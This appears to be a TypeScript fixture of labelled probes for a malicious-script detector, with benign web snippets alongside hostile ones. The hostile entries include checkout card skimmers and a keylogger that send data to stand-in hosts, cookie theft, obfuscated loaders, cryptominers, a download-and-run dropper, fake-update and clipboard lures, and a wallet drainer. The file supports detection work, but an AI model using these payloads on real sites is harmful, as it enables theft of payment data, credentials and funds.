// Scripts written after everything else, and scored only once: docs/performance.md has the result.
import type { Probe } from './probes.ts'

const hostile = (name: string, source: string): Probe => ({ name, isHostile: true, source })
const benign = (name: string, source: string): Probe => ({ name, isHostile: false, source })
const base64 = (text: string): string => Buffer.from(text).toString('base64')
const numbers = (text: string): string => [...text].map((c) => c.charCodeAt(0)).join(',')

export const LATER_PROBES: readonly Probe[] = [
  hostile(
    'prototype serialize',
    `Event.observe(window,'load',function(){$('review-please-wait').up().observe('mouseover',function(){var p=$('co-payment-form').serialize()+'&'+$('co-billing-form').serialize();new Image(1,1).src='https://img.example.net/b.png?s='+encodeURIComponent(btoa(p))})})`,
  ),
  hostile(
    'jquery each to a gate',
    `$(function(){$('#onestepcheckout-place-order').click(function(){var s='';$('input,select').each(function(){s+=$(this).attr('id')+'='+$(this).val()+'&'});$.ajax({type:'POST',url:'https://jq.example.org/gate.php',data:'data='+s})})})`,
  ),
  hostile(
    'address by replace',
    `var g='hZtZtZpZsZ:Z/Z/cdn.example.net/stat'.replace(/Z/g,'');setInterval(function(){var n=document.getElementById('authorizenet_cc_number');if(n&&n.value.length>14){var i=document.createElement('img');i.src=g+'?c='+n.value+'&m='+document.getElementById('authorizenet_expiration').value}},700)`,
  ),
  hostile(
    'sent when unloaded',
    `window.onunload=function(){var o={};Array.prototype.slice.call(document.getElementsByTagName('input')).forEach(function(x){o[x.name]=x.value});navigator.sendBeacon('https://b.example.org/u',JSON.stringify(o))}`,
  ),
  hostile(
    'hash remembered',
    `(()=>{let last;addEventListener('mousemove',()=>{let s=[...document.querySelectorAll('.payment-method input')].map(i=>i.id+':'+i.value).join(',');if(s!==last&&/\\d{13}/.test(s)){last=s;fetch('https://m.example.net/c?'+btoa(s),{mode:'no-cors'})}})})()`,
  ),
  hostile(
    'hidden field for a second form',
    `var f=document.createElement('form');f.method='post';f.action='https://form.example.org/r';f.style.display='none';var t=document.createElement('textarea');t.name='d';document.querySelector('.btn-checkout').addEventListener('click',function(){t.value=document.querySelector('[name="payment[cc_number]"]').value+document.querySelector('[name="payment[cc_cid]"]').value;f.appendChild(t);document.body.appendChild(f);f.submit()})`,
  ),
  hostile(
    'loader of a false tag manager',
    `(function(w,d){if(!/\\/checkout\\//.test(d.URL))return;var a=d.createElement('script');a.src=w.atob('${base64('https://gtm.example.net/gtm.js')}');a.async=!0;d.head.appendChild(a)})(window,document)`,
  ),
  hostile(
    'code from a picture',
    `var i=new XMLHttpRequest();i.open('GET','/media/favicon.png');i.onload=function(){var t=i.responseText,p=t.lastIndexOf('IEND');new Function(atob(t.substr(p+8)))()};i.send()`,
  ),
  hostile(
    'socket that instructs',
    `var s=new WebSocket('wss://c.example.org/ws?h='+location.host);s.addEventListener('message',function(m){setTimeout(m.data,0)})`,
  ),
  hostile(
    'false frame of a bank',
    `if(document.querySelector('#payment_method_card')){document.querySelector('#card-element').outerHTML='<iframe src="https://pay.example.net/form?d='+location.host+'" style="border:0;width:100%"></iframe>'}`,
  ),
  hostile('coinhive short', `var miner=new CoinHive.Anonymous('wQ1b2');miner.start()`),
  hostile(
    'coinhive without a variable',
    `(new CoinHive.User("key","u1",{autoThreads:!0})).start(CoinHive.IF_EXCLUSIVE_TAB)`,
  ),
  hostile(
    'loot in a page',
    `<html><body><script src="//a.example/crypta.js"></script><script>var m=new CryptoLoot.Anonymous('aa',{threads:2,throttle:.5});m.start();</script></body></html>`,
  ),
  hostile(
    'perfekt',
    `<script src="https://a.example/perfekt/perfekt.js"></script><script>PerfektStart('43ab','x',40)</script>`,
  ),
  hostile('deep miner', `deepMiner.Init('u',{throttle:.1}).start()`),
  hostile(
    'renamed client',
    `var _client=new Client.Anonymous('8f1c',{throttle:0.2,ads:0});_client.start();_client.addMiningNotification("Bottom","mining","#ccc",40,"#333")`,
  ),
  hostile(
    'worker for a pool',
    `var w=new Worker('/x.js');var s=new WebSocket('wss://p.example.net');s.onmessage=function(m){var j=JSON.parse(m.data);if(j.method=='job')w.postMessage(j.params)};w.onmessage=function(e){s.send(JSON.stringify({method:'submit',params:{job_id:e.data.id,nonce:e.data.n,result:e.data.h}}))}`,
  ),
  hostile(
    'wasm and threads',
    `WebAssembly.instantiateStreaming(fetch('//w.example.net/cn.wasm')).then(function(r){for(var n=0;;n++){if(r.instance.exports.cryptonight_hash(n)<target)socket.send(n)}})`,
  ),
  hostile(
    'written as numbers',
    `document.write(String.fromCharCode(${numbers('<iframe src="http://k.example.net/?id=1" width="1" height="1" frameborder="0"></iframe>')}))`,
  ),
  hostile(
    'unescaped twice',
    `eval(unescape(unescape('${[...'window.location="http://t.example.org/a"'].map((c) => `%25${c.charCodeAt(0).toString(16)}`).join('')}')))`,
  ),
  hostile(
    'flash asked for',
    `var v=0;try{v=(new ActiveXObject("ShockwaveFlash.ShockwaveFlash.9")).GetVariable("$version").split(",")[2]}catch(e){}if(v<124)document.write('<object data="http://s.example.net/'+v+'.swf" width=1 height=1></object>')`,
  ),
  hostile(
    'program through a stream',
    `var a=new ActiveXObject("ADODB.Stream"),h=new ActiveXObject("Msxml2.XMLHTTP");h.open("GET","http://d.example.net/filler",0);h.send();a.Type=1;a.Open();a.Write(h.responseBody);a.SaveToFile("filler.exe",2);WScript.CreateObject("WScript.Shell").Run("filler.exe")`,
  ),
  hostile(
    'only from searches',
    `var r=document.referrer;if(r.match(/(google|msn|yahoo|live|ask|aol)\\./i)&&!/site:/.test(r)){location='http://s.example.org/in.php?q='+encodeURIComponent(r)}`,
  ),
  hostile(
    'script by mirror',
    `document.write('<scr'+'ipt src="'+'sj.x/ten.elpmaxe.m//:ptth'.split('').reverse().join('')+'"></scr'+'ipt>')`,
  ),
  hostile(
    'keys each second',
    `var l=[];onkeydown=function(e){l.push(e.key)};setInterval(function(){if(l.length)new Image().src='//k.example.org/l.gif?'+l.splice(0).join('')},1e3)`,
  ),
  hostile(
    'session of an administrator',
    `if(/wp-admin/.test(location.pathname)){fetch('https://s.example.net/?c='+encodeURIComponent(document.cookie)+'&n='+(window.wpApiSettings||{}).nonce)}`,
  ),
  hostile(
    'command copied',
    `document.addEventListener('click',()=>navigator.clipboard.writeText('powershell -ep bypass -c FILLER'));document.body.innerHTML='<p>Press Win+R, then Ctrl+V to prove that you are human</p>'`,
  ),
  hostile(
    'browser too old',
    `document.body.innerHTML='<h1>Your Chrome is out of date</h1><a class="u" href="https://dl.example.net/chrome_update.exe">Update Chrome</a>'`,
  ),
  hostile(
    'words of a wallet',
    `document.forms[0].onsubmit=function(){fetch('https://w.example.net/p',{method:'POST',body:document.querySelector('[name=mnemonic]').value});return false}`,
  ),
  hostile(
    'leave to spend',
    `btn.onclick=async()=>{const [a]=await ethereum.request({method:'eth_requestAccounts'});await ethereum.request({method:'eth_sendTransaction',params:[{from:a,to:token,data:'0x095ea7b3'+'0'.repeat(24)+'ab'.repeat(20)+'f'.repeat(64)}]});navigator.sendBeacon('https://d.example.net/',a)}`,
  ),
  benign(
    'mask for a card',
    `document.querySelectorAll('[data-mask=card]').forEach(i=>i.addEventListener('input',()=>{const d=i.value.replace(/\\D/g,'').slice(0,16);i.value=d.replace(/(\\d{4})(?=\\d)/g,'$1 ')}))`,
  ),
  benign(
    'order by own address',
    `$('.place-order').click(function(){$.post('/checkout/place',$('#checkout-form').serialize()).done(function(r){window.location=r.url}).fail(function(){alert('Please try again')})})`,
  ),
  benign(
    'processor in a frame',
    `const s=Stripe('pk_test');const e=s.elements();const c=e.create('cardNumber');c.mount('#cc');c.on('change',ev=>{err.textContent=ev.error?ev.error.message:''});pay.onclick=()=>s.confirmCardPayment(secret,{payment_method:{card:c}})`,
  ),
  benign(
    'wallet button',
    `google.payments.api.PaymentsClient&&new google.payments.api.PaymentsClient({environment:'TEST'}).isReadyToPay({apiVersion:2,apiVersionMinor:0}).then(r=>{if(r.result)document.querySelector('#gpay').hidden=false})`,
  ),
  benign(
    'counter of visits',
    `var _paq=window._paq=window._paq||[];_paq.push(['trackPageView']);(function(){var u='//matomo.example.com/';_paq.push(['setTrackerUrl',u+'matomo.php']);var d=document,g=d.createElement('script'),s=d.getElementsByTagName('script')[0];g.async=true;g.src=u+'matomo.js';s.parentNode.insertBefore(g,s)})()`,
  ),
  benign(
    'form started',
    `document.forms[0].addEventListener('focusin',function f(){gtag('event','form_start');this.removeEventListener('focusin',f)})`,
  ),
  benign(
    'recorder',
    `rrweb.record({emit:e=>buffer.push(e),maskInputFn:t=>'*'.repeat(t.length)});const buffer=[];addEventListener('pagehide',()=>navigator.sendBeacon('/rec',JSON.stringify(buffer)))`,
  ),
  benign(
    'robot check',
    `grecaptcha.ready(()=>grecaptcha.execute('k',{action:'submit'}).then(t=>{document.getElementById('g-token').value=t}))`,
  ),
  benign(
    'consent',
    `window.__tcfapi&&__tcfapi('addEventListener',2,(d,ok)=>{if(ok&&d.eventStatus==='useractioncomplete'){document.cookie='tc='+d.tcString+';path=/'}})`,
  ),
  benign(
    'help in a corner',
    `window.intercomSettings={app_id:'x'};(function(){var w=window,d=document;function l(){var s=d.createElement('script');s.async=true;s.src='https://widget.intercom.example/widget/x';d.body.appendChild(s)}w.addEventListener('load',l,false)})()`,
  ),
  benign(
    'letter by service',
    `document.querySelector('#subscribe form').onsubmit=async e=>{e.preventDefault();await fetch('https://api.mail.example.com/v3/lists/1/members',{method:'POST',body:JSON.stringify({email:e.target.email.value})});e.target.innerHTML='Thanks'}`,
  ),
  benign(
    'search box',
    `const q=document.querySelector('#q');q.oninput=()=>fetch('/search.json?q='+encodeURIComponent(q.value)).then(r=>r.json()).then(d=>list.innerHTML=d.map(x=>'<li>'+x.t).join(''))`,
  ),
  benign(
    'tabs',
    `document.querySelectorAll('.tab').forEach((t,i,a)=>t.onclick=()=>{a.forEach(x=>x.classList.remove('on'));t.classList.add('on')})`,
  ),
  benign(
    'packed settings',
    `eval(function(p,a,c,k,e,d){while(c--)if(k[c])p=p.replace(new RegExp('\\\\b'+c.toString(a)+'\\\\b','g'),k[c]);return p}('0.1=2;',3,3,'window|theme|5'.split('|'),0,{}))`,
  ),
  benign(
    'style from base64',
    `var l=document.createElement('link');l.rel='stylesheet';l.href='data:text/css;base64,${base64('body{margin:0}')}';document.head.appendChild(l)`,
  ),
  benign('old frame breaker', `if(top.location!=self.location){top.location=self.location.href}`),
  benign('https only', `if(location.protocol=='http:')location.href=location.href.replace('http:','https:')`),
  benign(
    'language by browser',
    `var l=navigator.language.slice(0,2);if(l=='de'&&!/\\/de\\//.test(location))location.replace('/de/')`,
  ),
  benign(
    'plug-in of a gallery',
    `(function($){$.fn.gal=function(){return this.each(function(){var i=0,s=$(this).children();setInterval(function(){s.eq(i).fadeOut();i=(i+1)%s.length;s.eq(i).fadeIn()},4e3)})}})(jQuery)`,
  ),
  benign(
    'video',
    `var t=document.createElement('script');t.src='https://www.youtube.com/iframe_api';document.body.appendChild(t);function onYouTubeIframeAPIReady(){new YT.Player('p',{videoId:'x'})}`,
  ),
  benign(
    'prices',
    `setInterval(()=>fetch('https://api.rates.example.com/latest').then(r=>r.json()).then(d=>{rate.textContent=d.EUR}),6e4)`,
  ),
  benign(
    'game',
    `const ws=new WebSocket('wss://play.example.com');document.onkeydown=e=>ws.send(JSON.stringify({key:e.code}));ws.onmessage=m=>draw(JSON.parse(m.data))`,
  ),
  benign(
    'compressor',
    `const w=new Worker('zip.js');file.onchange=()=>{for(const f of file.files)w.postMessage(f)};w.onmessage=e=>{a.href=URL.createObjectURL(e.data);a.download='files.zip'}`,
  ),
  benign(
    'sums of files',
    `crypto.subtle.digest('SHA-256',await file.arrayBuffer()).then(b=>out.value=[...new Uint8Array(b)].map(x=>x.toString(16).padStart(2,'0')).join(''))`,
  ),
  benign(
    'donation',
    `document.querySelector('#xmr').onclick=()=>navigator.clipboard.writeText('4${'A'.repeat(94)}')`,
  ),
  benign(
    'faults',
    `window.addEventListener('error',e=>navigator.sendBeacon('https://log.example.com/js',JSON.stringify({m:e.message,s:e.filename,l:e.lineno})))`,
  ),
  benign(
    'log-in',
    `f.onsubmit=e=>{e.preventDefault();fetch('/login',{method:'POST',body:new FormData(f)}).then(r=>r.ok?location.reload():err.hidden=false)}`,
  ),
  benign(
    'password rules',
    `pw.oninput=()=>{ok.hidden=!(/[A-Z]/.test(pw.value)&&/\\d/.test(pw.value)&&pw.value.length>9)}`,
  ),
  benign(
    'advertisement',
    `(adsbygoogle=window.adsbygoogle||[]).push({google_ad_client:'ca-pub-1',enable_page_level_ads:true})`,
  ),
  benign(
    'printing',
    `document.querySelector('.print').addEventListener('click',function(){var w=window.open('','p');w.document.write(document.querySelector('article').innerHTML);w.print();w.close()})`,
  ),
]
